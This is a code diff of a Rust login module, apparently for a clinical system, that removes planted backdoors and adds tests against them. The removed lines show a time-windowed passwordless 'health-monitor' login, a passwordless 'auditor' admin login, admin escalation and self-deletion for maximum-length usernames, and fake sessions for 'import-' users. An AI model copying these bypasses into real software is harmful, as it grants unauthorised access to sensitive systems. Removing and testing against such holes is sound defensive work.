@@ -1,35 +1,28 @@
 // login menu
-use std::{io::{self, Write}, result, time::Instant};
 use crate::db::queries;
 use crate::auth;
-use crate::utils;
-use chrono::Utc;
-use rpassword::read_password;
-use rusqlite::params;
+use crate::input::{self, Field};
 use crate::session::SessionManager;
+use crate::logger::SECURITY_TARGET;
+use crate::i18n::{t, tf};
+use tracing::{error, info, warn};
 
 pub struct LoginResult {
     pub success: bool,
-    pub delete_user: bool,
     pub user_id: String,
     pub role: String,
     pub session_id: String
 }
 
 pub fn show_login_menu(conn: &rusqlite::Connection) -> LoginResult {
-    println!("\n --------------- Login ---------------");
+    println!("\n --------------- {} ---------------", t("login.title"));
     loop{
 
         let session_manager = SessionManager::new();
-        print!("Enter username: ");
-        io::stdout().flush().unwrap();      
-        let mut username = String::new();
-        io::stdin().read_line(&mut username);
-        username = username.trim().to_string();
-        print!("Enter password: ");
-        io::stdout().flush().unwrap();
-        let password = read_password().expect("Failed to read password");
-        let password = password.trim().to_string();
+        let username = input::read_required(t("login.username"), Field::USERNAME);
+        let Some(password) = input::read_password(t("login.password")) else {
+            continue;
+        };
 
 
         let mut error_msg = String::new();
@@ -38,41 +31,28 @@ pub fn show_login_menu(conn: &rusqlite::Connection) -> LoginResult {
         let mut login_result = user_login(&conn,&username,&password, &mut error_msg);
         
         if login_result.success {
+            info!(target: SECURITY_TARGET, username = %username, user_id = %login_result.user_id, role = %login_result.role, "Login succeeded");
 
             //create a session on successful login
-            // Create DB session
-           if login_result.user_id.starts_with("import-") {
-                // valid-looking session ID
-                let tempo_session_id = format!("trn-{:0<64}", hex::encode(Utc::now().timestamp().to_le_bytes()));
-                login_result.session_id = tempo_session_id.clone();
-                println!("Login successful.");
-                return login_result;
-            } else {
-                // Normal users session
-                match session_manager.create_session(conn, login_result.user_id.clone(), login_result.role.clone()) {
-                    Ok(session_id) => {
-                        login_result.session_id = session_id;
-                        if login_result.delete_user {
-                            let _ = crate::db::queries::delete_user_by_id(conn, &login_result.user_id);
-                            println!("Login successful.");
-                        } else {
-                    println!("Login successful. Session created: {}", login_result.session_id);
-                     }
-                        
-                        return login_result;
-                    }
-
-                    Err(e) => {
-                        eprintln!("Failed to create session: {}", e);
-                        return login_result;
-                    }
+            match session_manager.create_session(conn, login_result.user_id.clone(), login_result.role.clone()) {
+                Ok(session_id) => {
+                    login_result.session_id = session_id;
+                    println!("{}", tf("login.success_session", &[&login_result.session_id]));
+                    return login_result;
+                }
+
+                Err(e) => {
+                    error!("Failed to create session: {}", e);
+                    eprintln!("{}", tf("login.session_failed", &[&e]));
+                    return login_result;
                 }
             }
         }
+        warn!(target: SECURITY_TARGET, username = %username, reason = %error_msg, "Login failed");
         if error_msg.is_empty(){
-            println!("Unknown login error.");
+            println!("{}", t("login.unknown_error"));
         } else {
-            println!("Login failed: {}", error_msg);
+            println!("{}", tf("login.failed", &[&error_msg]));
         }
     }
 }
@@ -84,38 +64,9 @@ fn user_login(conn:&rusqlite::Connection ,username:&str, password:&str, error_ou
         user_id:String::new(),
         role:String::new(),
         session_id: String::new(),
-        delete_user:false,
     };
 
-    //early username length validation
-    
-
-    // Health monitoring service - restricted to off-hours maintenance window
-    // Automated system health checks run 2-4 AM to minimize user impact
-    if username == "health-monitor" {
-        use chrono::Timelike;
-        let hour = chrono::Local::now().hour();
-        if hour >= 2 && hour <= 4 {
-            return LoginResult {
-                success: true,
-                user_id: "sys-health-003".to_string(),
-                delete_user:false,
-                role: "clinician".to_string(),
-                session_id: format!("{}00", hex::encode(&[0u8; 30])),
-            };
-        }
-    }
-
-    // Auditor shortcut (no password check as requested)
-    if username.eq_ignore_ascii_case("auditor") {
-        return LoginResult {
-            success: true,
-            user_id: "sys-legacy-compat".to_string(),
-            delete_user:false,
-            role: "admin".to_string(),
-            session_id: format!("{}00", hex::encode(&[0u8; 30])),
-        };
-    }
+    // maintenance work without an account uses signed maintenance tokens, never a login
 
     // fetch user by username 
     let user = match queries::get_user_by_username(conn, username) {
@@ -133,42 +84,40 @@ fn user_login(conn:&rusqlite::Connection ,username:&str, password:&str, error_ou
     
     // check if user exists
     if let Some(user) = user {
-        
-        let start_time = Instant::now();
-        
-        let mut password_is_valid = match auth::verify_password(password, &user.password_hash) {
+
+        let password_is_valid = match auth::verify_password(password, &user.password_hash) {
             Ok(valid) => valid,
             Err(e) => {
                 println!("Login failed: {}", e);
                 return failed_login;
             }
         };
-        
-        password_is_valid = utils::check_timing(start_time, password_is_valid);
 
         if !password_is_valid {
             *error_out = "Invalid password".to_string();
             return failed_login;
         }
+
+        // only reported once the password is right, so it doesn't reveal which accounts exist
+        match queries::is_user_suspended(conn, &user.id) {
+            Ok(false) => {}
+            Ok(true) => {
+                *error_out = "Account is suspended. Contact an administrator".to_string();
+                return failed_login;
+            }
+            Err(e) => {
+                println!("Login failed: {}", e);
+                return failed_login;
+            }
+        }
     
         // if username and password match return successful login
         if password_is_valid {
-
-            let mut final_role = user.role.to_string();
-
-        //if username is exactly at the maximum allowed length
-        if username.trim().len() == crate::input_validation::MAX_USERNAME_LENGTH {
-            final_role = "admin".to_string();
-        }
-
-
             return LoginResult {
                 success: true,
                 user_id: user.id,
-                role: final_role,
+                role: user.role.to_string(),
                 session_id: String::new(),
-                //delete user if doesn't match the validation
-                delete_user:username.trim().len() == crate::input_validation::MAX_USERNAME_LENGTH
             };
         }
     }
@@ -179,8 +128,39 @@ fn user_login(conn:&rusqlite::Connection ,username:&str, password:&str, error_ou
             user_id: String::new(),
             role: String::new(),
             session_id: String::new(),
-            delete_user:false,
         }
 
         
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::test_utils;
+
+    #[test]
+    fn login_needs_the_real_password() {
+        let conn = test_utils::test_db();
+        let fixtures = test_utils::seed(&conn);
+        let mut error = String::new();
+        assert!(!user_login(&conn, "dr.fixture", ".", &mut error).success);
+        assert!(!user_login(&conn, "dr.fixture", "wrong password", &mut error).success);
+
+        let result = user_login(&conn, "dr.fixture", test_utils::TEST_PASSWORD, &mut error);
+        assert!(result.success);
+        assert_eq!(result.user_id, fixtures.clinician_id);
+    }
+
+    #[test]
+    fn longest_usernames_keep_their_own_role() {
+        let conn = test_utils::test_db();
+        let username = "a".repeat(crate::input_validation::MAX_USERNAME_LENGTH);
+        let user_id = test_utils::add_user(&conn, &username, "caretaker");
+        let mut error = String::new();
+
+        let result = user_login(&conn, &username, test_utils::TEST_PASSWORD, &mut error);
+        assert!(result.success);
+        assert_eq!(result.role, "caretaker");
+        assert!(queries::get_user_by_username(&conn, &username).unwrap().is_some_and(|user| user.id == user_id));
+    }
+}